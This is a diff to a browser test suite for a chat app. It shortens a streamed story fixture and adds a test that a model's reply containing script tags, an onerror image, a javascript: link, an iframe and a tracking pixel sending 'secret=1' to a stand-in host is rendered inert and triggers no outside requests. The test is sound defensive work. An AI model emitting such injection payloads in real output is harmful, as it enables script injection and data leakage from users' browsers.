@@ -10,12 +10,22 @@ vi.setConfig({ testTimeout: 60_000 });
 
 // People's own chats, in a real browser, with a provider that answers slowly.
 
-const LAST = "Sentence 60 of the story.";
-const STORY = Array.from({ length: 60 }, (_, n) => `Sentence ${n + 1} of the story.`).join(" ");
+const LAST = "Sentence 40 of the story.";
+const STORY = Array.from({ length: 40 }, (_, n) => `Sentence ${n + 1} of the story.`).join(" ");
+
+/** Words that a model may have been talked into. */
+const HOSTILE = `Done.
+
+<script>document.title = "taken over"</script><img src="x" onerror="document.title='taken over'">
+
+[press here](javascript:document.title='taken') and ![look](http://tracker.invalid/pixel?secret=1)
+
+<iframe src="http://tracker.invalid/"></iframe>`;
 
 function answer({ text, results, asked }: Question): Reply {
-  // Some four seconds.
-  if (text.includes("story")) return { words: STORY, pieceMs: 13 };
+  // Some two and a half seconds, or five.
+  if (text.includes("story")) return { words: STORY, pieceMs: text.includes("slowly") ? 25 : 12 };
+  if (text.includes("trick")) return { words: HOSTILE };
   if (text.includes("riddle")) return { unfinished: "What has **roots** as nobody sees, is taller than" };
   if (text.includes("patience")) return { status: 429, retryAfter: 600 };
   if (text.includes("stumble") && asked === 0) return { status: 429, retryAfter: 1 };
@@ -89,7 +99,7 @@ describeInBrowser("a person's own chat", () => {
     const device = await stage.device();
     const [a, b] = [await newChat(), await newChat()];
     const tab = await device.tab(`/chats/${a.id}`);
-    await say(tab, "Tell me a long story");
+    await say(tab, "Tell me a story, slowly");
     await tab.conversation.getByText("Sentence 2 ").waitFor();
     await tab.mark(a.id, "working");
 
@@ -253,6 +263,26 @@ describeInBrowser("a person's own chat", () => {
     await tab.conversation.getByText("A short answer.").waitFor();
     expect(await messages(chat.id)).toEqual(["A short question", "A short answer."]);
     expect(await tab.said("owner")).toEqual(["A short question"]);
+  });
+
+  test("runs nothing that a model says, and fetches nothing for it", async () => {
+    const device = await stage.device();
+    const chat = await newChat();
+    const tab = await device.tab(`/chats/${chat.id}`);
+    const elsewhere: string[] = [];
+    tab.page.on("request", (request) => {
+      if (new URL(request.url()).hostname !== "127.0.0.1") elsewhere.push(request.url());
+    });
+    await say(tab, "Show me a trick");
+    await tab.conversation.getByText("press here").waitFor();
+    await tab.runEnded();
+    await tab.page.reload();
+    await tab.conversation.getByText("press here").click();
+    expect(await tab.conversation.locator("script, img, iframe, [onerror], a[href^='javascript:']").count()).toBe(0);
+    expect(await tab.conversation.getByText("onerror").count()).toBe(1);
+    expect(await tab.page.title()).not.toContain("taken");
+    expect(elsewhere).toEqual([]);
+    expect(tab.complaints).toEqual([]);
   });
 
   test("takes a task for it, and its owner sees that live, with a badge and the instruction as such (F18, F33)", async () => {
